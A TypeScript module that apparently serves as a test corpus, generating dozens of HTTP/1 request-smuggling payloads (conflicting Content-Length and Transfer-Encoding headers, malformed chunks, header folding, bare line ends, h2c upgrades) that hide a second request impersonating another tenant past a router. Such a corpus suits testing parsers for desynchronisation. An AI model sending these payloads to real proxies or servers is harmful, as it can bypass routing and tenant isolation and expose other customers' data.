/** A text on the wire that holds a second request where readers of HTTP disagree about the end of the first. */
export interface Smuggled {
  readonly name: string;
  readonly text: string;
}

const HOST = "Host: acme.example.test";
/** The request that is hidden: it speaks for the router, to a stamp that is not the client's. */
const HIDDEN = [
  "GET /hidden HTTP/1.1",
  "Host: umbrella.example.test",
  "X-Stamp-Tenant: umbrella",
  "X-Stamp-Id: us1",
  "X-Stamp-Origin: evil-word",
  "",
  "",
].join("\r\n");
const CHUNKED = `0\r\n\r\n${HIDDEN}`;
const IN_CHUNK = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;

const post = (fields: readonly string[], body: string, line = "POST / HTTP/1.1", end = "\r\n"): string =>
  [line, HOST, ...fields, "", body].join(end);

/** Two lengths, or a length and chunks, in each order. */
const LENGTHS = ["0", "4", "5", String(HIDDEN.length), String(CHUNKED.length)].flatMap((length) => [
  post([`Content-Length: ${length}`, "Transfer-Encoding: chunked"], CHUNKED),
  post(["Transfer-Encoding: chunked", `Content-Length: ${length}`], CHUNKED),
  post([`Content-Length: ${length}`, `Content-Length: ${CHUNKED.length}`], CHUNKED),
  post([`Content-Length: ${length}, ${CHUNKED.length}`], CHUNKED),
  post([`Content-Length: ${length}`, `content_length: ${CHUNKED.length}`], CHUNKED),
  post([`Content-Length: ${length}`, "Transfer_Encoding: chunked"], CHUNKED),
  post([`Content-Length: ${length}`, "Transfer.Encoding: chunked"], CHUNKED),
]);

/** Lengths that are none to one reader and one to another. */
const ODD_LENGTHS = [
  "+0",
  "-1",
  "0x0",
  "0 0",
  " 0",
  "0;",
  "1e1",
  "00",
  "",
  "\t0",
  "0\v",
  "18446744073709551616",
  "４",
].map((length) => post([`Content-Length: ${length}`], HIDDEN));

/** Spellings of chunks that one reader takes for them. */
const ENCODINGS = [
  "xchunked",
  "chunked, identity",
  "identity, chunked",
  "chunked, chunked",
  "gzip, chunked",
  "chunked;q=1",
  '"chunked"',
  " chunked",
  "\tchunked",
  "\vchunked",
  "chunked\v",
  "Chunked",
  "CHUNKED",
  "chun ked",
  "chunk",
  "",
].flatMap((encoding) => [
  post([`Transfer-Encoding: ${encoding}`], CHUNKED),
  post([`Transfer-Encoding: ${encoding}`, `Content-Length: ${CHUNKED.length}`], CHUNKED),
  post(["Transfer-Encoding: chunked", `Transfer-Encoding: ${encoding}`], CHUNKED),
]);

/** Names and lines that are cut otherwise by each reader. */
const NAMES = [
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  " Transfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\n chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\0\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\0",
  "Content-Length : 0",
  "X-Other: a\r\n\tX-Stamp-Tenant: umbrella",
  "X-Other: a\n\nGET /hidden HTTP/1.1",
].flatMap((line) => [
  post([line], CHUNKED),
  post([line, `Content-Length: ${CHUNKED.length}`], CHUNKED),
  post([`Content-Length: ${CHUNKED.length}`, line], CHUNKED),
]);

/** Chunks whose size, extension or end is odd. */
const CHUNKS = [
  `0\n\n${HIDDEN}`,
  `0;x\r\n\r\n${HIDDEN}`,
  `0;\nx\r\n\r\n${HIDDEN}`,
  `0 \r\n\r\n${HIDDEN}`,
  `+0\r\n\r\n${HIDDEN}`,
  `0x0\r\n\r\n${HIDDEN}`,
  `-0\r\n\r\n${HIDDEN}`,
  `00000000000000000\r\n\r\n${HIDDEN}`,
  `1\r\nAB\r\n0\r\n\r\n${HIDDEN}`,
  `2\r\nA\r\n0\r\n\r\n${HIDDEN}`,
  `1\rA\r\n0\r\n\r\n${HIDDEN}`,
  `ffffffffffffffff\r\n${HIDDEN}`,
  `10000000000000000\r\n${HIDDEN}`,
  `0\r\nX-Stamp-Tenant: umbrella\r\n\r\n${HIDDEN}`,
  IN_CHUNK,
].map((body) => post(["Transfer-Encoding: chunked"], body));

/** Methods and versions that have no body to some. */
const LINES = [
  "GET / HTTP/1.1",
  "HEAD / HTTP/1.1",
  "OPTIONS / HTTP/1.1",
  "DELETE / HTTP/1.1",
  "POST / HTTP/1.0",
  "POST / HTTP/1.2",
  "POST / HTTP/2.0",
  "POST / HTTP/0.9",
  "POST  /  HTTP/1.1",
  "POST\t/\tHTTP/1.1",
  "POST / HTTP/1.1 ",
  "POST / http/1.1",
  "POST / HTTP/1.1\0",
  "POST /",
].flatMap((line) => [
  post([`Content-Length: ${HIDDEN.length}`], HIDDEN, line),
  post(["Transfer-Encoding: chunked"], IN_CHUNK, line),
  post(["Transfer-Encoding: chunked", `Content-Length: ${IN_CHUNK.length}`], IN_CHUNK, line),
]);

/** What asks the stamp to go on in another protocol, or before the body is there. */
const UPGRADES = [
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
  ["Connection: Upgrade", "Upgrade: h2c"],
  ["Connection: Upgrade", "Upgrade: TLS/1.2"],
  ["Connection: Upgrade", "Upgrade: websocket, h2c"],
  ["Connection: Upgrade", "Upgrade: h2c", "Upgrade: websocket"],
  ["Expect: 100-continue"],
  ["Expect: 100-continue", "Expect: 417"],
  ["Expect: x"],
].map((fields) => post([...fields, `Content-Length: ${HIDDEN.length}`], HIDDEN));

const BARE = [`Content-Length: ${HIDDEN.length}`, "Transfer-Encoding: chunked"].flatMap((field) => [
  post([field], field.startsWith("C") ? HIDDEN : IN_CHUNK, "POST / HTTP/1.1", "\n"),
  post([field], CHUNKED, "POST / HTTP/1.1", "\r"),
]);

const named = (kind: string, texts: readonly string[]): Smuggled[] =>
  texts.map((text, index) => ({ name: `${kind} ${index}`, text }));

/** Texts of HTTP/1 by which a second request is smuggled past the router. */
export const SMUGGLED: readonly Smuggled[] = [
  ...named("two lengths", LENGTHS),
  ...named("an odd length", ODD_LENGTHS),
  ...named("an odd encoding", ENCODINGS),
  ...named("an odd name or line", NAMES),
  ...named("odd chunks", CHUNKS),
  ...named("an odd request line", LINES),
  ...named("an upgrade", UPGRADES),
  ...named("bare line ends", BARE),
];
